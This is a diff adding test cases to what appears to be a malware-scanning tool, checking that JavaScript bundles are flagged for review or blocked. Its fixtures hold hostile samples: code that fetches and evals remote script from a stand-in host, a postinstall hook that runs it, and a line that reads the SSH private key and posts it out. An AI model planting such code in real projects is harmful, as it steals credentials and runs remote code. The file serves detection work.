@@ -12,7 +12,7 @@ from sekisho.inspection.intake.gather import gather_bytes
 from sekisho.inspection.judge import judge
 from sekisho.inspection.link import link
 from sekisho.inspection.virtual import Limits
-from support.inspection import Here
+from support.inspection import Files, Here, inspected
 
 BROKEN = gzip.compress(b"print(1)\n" * 50)[:-9]
 """A stream that ends early: what it holds is not known."""
@@ -81,3 +81,29 @@ def test_a_chain_in_an_archive_within_the_input_is_grave_where_it_starts_there(
     (tmp_path / "app.py").write_bytes(b"print(1)\n")
     assert str(inspect(tmp_path).verdict) == verdict
     assert str(inspect(tmp_path / "data.zip").verdict) == "block"
+
+
+_LONG = "const plain = other;\n" * 3_000
+_RUNS = "function go() { fetch('https://a.invalid').then(r => r.text()).then(t => eval(t)); }\n"
+BUNDLES: dict[str, tuple[Files, str]] = {  # what lies there, and the verdict
+    "a bundle to which nothing leads": ({"static/app.js": _LONG + _RUNS}, "review"),
+    "a script to which nothing leads": ({"static/app.js": _RUNS}, "block"),
+    "a bundle that a page loads, in a browser": (
+        {"static/app.js": _LONG + _RUNS, "static/index.html": "<script src='app.js'></script>"},
+        "review",
+    ),
+    "a bundle that is installed": (
+        {"a.js": _LONG + _RUNS, "package.json": '{"scripts": {"postinstall": "node a.js"}}'},
+        "block",
+    ),
+    "a bundle that sends keys": (
+        {"a.js": _LONG + "const k = require('fs').readFileSync(require('os').homedir() + '/.ssh/id_rsa');\n"
+         "fetch('https://a.invalid', { method: 'POST', body: k });\n"},
+        "block",
+    ),
+}  # fmt: skip
+
+
+@pytest.mark.parametrize(("files", "verdict"), BUNDLES.values(), ids=BUNDLES.keys())
+def test_a_bundle_that_makes_code_is_grave_where_something_leads_to_it(files: Files, verdict: str) -> None:
+    assert inspected(files).verdict == verdict
